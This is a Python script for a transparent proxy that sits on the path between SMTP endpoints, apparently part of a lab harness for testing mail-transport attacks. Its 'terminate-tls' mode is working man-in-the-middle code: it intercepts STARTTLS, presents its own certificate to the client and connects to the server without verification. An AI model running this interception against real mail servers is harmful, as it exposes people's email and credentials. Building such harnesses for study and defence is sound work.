#!/usr/bin/env python3
"""A transparent proxy on the path: ends TCP at both sides, and each tap still sees the true addresses and ports.

    proxy.py ATTACK [KEY=VALUE...]      an attack of ../attacks.py, or terminate-tls; `port=25` is the server's port

Runs in path's namespace, set up by ../on_path.py: what comes from the client for the port, and from the server's port, is routed to
this machine. Both connections have the client's and the server's addresses and the client's port; their initial
sequence numbers, timestamps and TTL (64) are this kernel's, and so the taps tell two connections. Says `ready` when it listens.

terminate-tls (`cert=FILE key=FILE`): takes the client's STARTTLS with this certificate, and the server's with TLS of its own that
verifies nothing. Outside: mx's dialogue and a certificate (hidden in TLS 1.3; `tls=1.2` shows it) that is not mx's; inside: mx's.
"""
import pathlib
import re
import select
import signal
import socket
import ssl
import struct
import sys
import threading

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent))

import attacks  # noqa: E402 pylint: disable=wrong-import-position

IP_TRANSPARENT, IPV6_TRANSPARENT = 19, 75


def transparent(family):
    """A TCP socket that may use the addresses of others."""
    s = socket.socket(family, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    if family == socket.AF_INET6:
        s.setsockopt(socket.IPPROTO_IPV6, IPV6_TRANSPARENT, 1)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    else:
        s.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
    return s


def contexts(options):
    """TLS as a server towards the client, as a client towards the server."""
    as_server = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    as_server.load_cert_chain(options["cert"], options["key"])
    if options.get("tls") == "1.2":
        as_server.maximum_version = ssl.TLSVersion.TLSv1_2
    as_client = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    as_client.check_hostname, as_client.verify_mode = False, ssl.CERT_NONE
    return as_server, as_client


def lines_until_tls(client, server):
    """Passes the dialogue on until the server says 220 to STARTTLS; gives whether it did."""
    asked, other = False, {client: server, server: client}
    while True:
        for here in select.select([client, server], [], [])[0]:
            text = here.recv(65536)
            if not text:
                return False
            other[here].sendall(text)
            if here is client:
                asked = asked or bool(re.search(rb"(?im)^STARTTLS\r$", text))
            elif asked:
                return text.startswith(b"220")


def clear_pump(one, two):
    """Passes on what is inside TLS, until one side ends."""
    other = {one: two, two: one}
    for side in other:
        side.settimeout(0.1)  # a record may hold no data of the session: then there is nothing to read yet
    while True:
        for here in select.select(list(other), [], [])[0]:
            try:
                octets = here.recv(65536)
            except TimeoutError:
                continue
            if not octets:
                return
            other[here].sendall(octets)


def terminate_tls(client, server, options):
    """A man in the middle with a certificate of his own."""
    as_server, as_client = contexts(options)
    if not lines_until_tls(client, server):
        return
    with as_client.wrap_socket(server) as to_server, as_server.wrap_socket(client, server_side=True) as to_client:
        clear_pump(to_client, to_server)


def serve(attack, options, client, peer, address):
    """One connection: to the server in the client's name, then the attack."""
    with client, transparent(client.family) as server:
        try:
            server.bind(peer[:2])
            server.connect(address[:2])
            if attack == "terminate-tls":
                terminate_tls(client, server, options)
            else:
                attacks.pump(attacks.ATTACKS[attack](client, server, options))
        except ConnectionRefusedError as e:
            print(f"{peer[0]} to {address[0]}: {e}", file=sys.stderr, flush=True)
            client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        except OSError as e:  # one side was reset, or the attack ends the connection
            print(f"{peer[0]} to {address[0]}: {e!r}", file=sys.stderr, flush=True)


def main():
    attack, *options = sys.argv[1:]
    options = dict(o.split("=", 1) for o in options)
    assert attack == "terminate-tls" or attack in attacks.ATTACKS, attack
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    listeners = []
    for family in (socket.AF_INET, socket.AF_INET6):
        listener = transparent(family)
        listener.bind(("", int(options.get("port", 25))))
        listener.listen(64)
        listeners.append(listener)
    print("ready", flush=True)
    while True:
        for listener in select.select(listeners, [], [])[0]:
            client, peer = listener.accept()
            threading.Thread(target=serve, args=(attack, options, client, peer, client.getsockname()), daemon=True).start()


if __name__ == "__main__":
    main()
